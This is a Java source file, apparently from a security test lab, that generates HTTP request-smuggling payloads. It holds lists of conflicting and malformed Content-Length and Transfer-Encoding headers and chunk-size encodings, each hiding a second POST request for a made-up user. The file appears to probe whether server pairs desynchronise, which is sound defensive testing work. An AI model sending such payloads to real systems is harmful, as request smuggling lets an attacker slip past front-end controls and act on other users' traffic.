package dev.breakwater.lab.containers;

import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;

/**
 * A request with a complete order hidden in its body. If two servers in a row disagree where that
 * body ends, the second one takes the order for a request: request smuggling (RFC 9112, section
 * 11.2).
 *
 * @param user of the hidden order, and of nothing else
 */
record HiddenOrder(String user, String request) {

    /** How a request may say where its body ends, in one way too many or in a wrong one. */
    private static final List<String> FRAMINGS =
            List.of(
                    "Content-Length: LENGTH",
                    "Content-Length: LENGTH\r\nTransfer-Encoding: chunked",
                    "Transfer-Encoding: chunked\r\nContent-Length: LENGTH",
                    "Content-Length: LENGTH\r\nTransfer-Encoding: xchunked",
                    "Content-Length: LENGTH\r\nTransfer-Encoding : chunked",
                    "Content-Length: LENGTH\r\nTransfer-Encoding:\tchunked",
                    "Content-Length: LENGTH\r\nTransfer-Encoding: \u000bchunked",
                    "Content-Length: LENGTH\r\nTransfer-Encoding: chunked, identity",
                    "Content-Length: LENGTH\r\nTransfer-Encoding: identity, chunked",
                    "Content-Length: LENGTH\r\nTransfer-Encoding: \"chunked\"",
                    "Content-Length: LENGTH\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked",
                    "Content-Length: LENGTH\r\nTransfer-Encoding:\r\n chunked",
                    "Content-Length: LENGTH\r\n Transfer-Encoding: chunked",
                    "Content-Length: LENGTH\r\nTransfer_Encoding: chunked",
                    "Content-Length: LENGTH\r\nX-Any: x\rTransfer-Encoding: chunked",
                    "Content-Length: LENGTH\r\nX-Any: x\nTransfer-Encoding: chunked",
                    "Content-Length: LENGTH\r\nX-Any: x\u0000\r\nTransfer-Encoding: chunked",
                    "Content-Length: LENGTH\r\nContent-Length: 0",
                    "Content-Length: 0\r\nContent-Length: LENGTH",
                    "Content-Length: LENGTH\r\nContent-Length : 0",
                    "Content-Length: 5, LENGTH",
                    "Content-Length: +LENGTH",
                    "Content-Length: -LENGTH",
                    "Content-Length: LENGTH\r\nConnection: Content-Length",
                    "Content-Length: LENGTH\r\nExpect: 100-continue",
                    "Content-Length: LENGTH\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__");

    /** How a chunk may say its size. */
    private static final List<String> SIZES =
            List.of(
                    "SIZE",
                    "0xSIZE",
                    "+SIZE",
                    "-SIZE",
                    " SIZE",
                    "SIZE ",
                    "SIZE;name=value",
                    "SIZE;\nname",
                    "SIZE;\rname",
                    "SIZE\u0000",
                    "00000000000000000SIZE",
                    "10000000000000SIZE",
                    "f000000000000SIZE",
                    "0;\nSIZE");

    private static final String POST =
            String.join(
                    "\r\n",
                    "POST /user/orders HTTP/1.1",
                    "Host: edge",
                    "Connection: close",
                    "Content-Type: application/json",
                    "");
    private static final String ORDER = "{\"items\":[{\"sku\":\"COF-001\",\"quantity\":1}]}";

    /** Returns a request for every way to hide an order. */
    static List<HiddenOrder> all() {
        return Stream.concat(
                        FRAMINGS.stream().map(HiddenOrder::behindLastChunk),
                        SIZES.stream().map(HiddenOrder::inChunk))
                .toList();
    }

    /** Returns an order that is not hidden. */
    static String plain(String user) {
        return POST
                + "X-User-Id: %s\r\nIdempotency-Key: %s\r\nContent-Length: %d\r\n\r\n%s"
                        .formatted(user, UUID.randomUUID(), ORDER.length(), ORDER);
    }

    /** Returns an order behind a body that says where it ends, so that it is not hidden. */
    static HiddenOrder notHidden() {
        String user = newUser();
        String head = POST.replace("close", "keep-alive") + "Content-Length: 1\r\n\r\n";
        return new HiddenOrder(user, head + "0" + plain(user));
    }

    private static HiddenOrder behindLastChunk(String framing) {
        String user = newUser();
        String body = "0\r\n\r\n" + plain(user);
        String head = POST + framing.replace("LENGTH", Integer.toString(body.length()));
        return new HiddenOrder(user, head + "\r\n\r\n" + body);
    }

    private static HiddenOrder inChunk(String size) {
        String user = newUser();
        String order = plain(user);
        String head = POST + "Transfer-Encoding: chunked\r\n\r\n";
        String line = size.replace("SIZE", Integer.toHexString(order.length()));
        return new HiddenOrder(user, head + line + "\r\n" + order + "\r\n0\r\n\r\n");
    }

    private static String newUser() {
        return "hidden-" + UUID.randomUUID();
    }
}
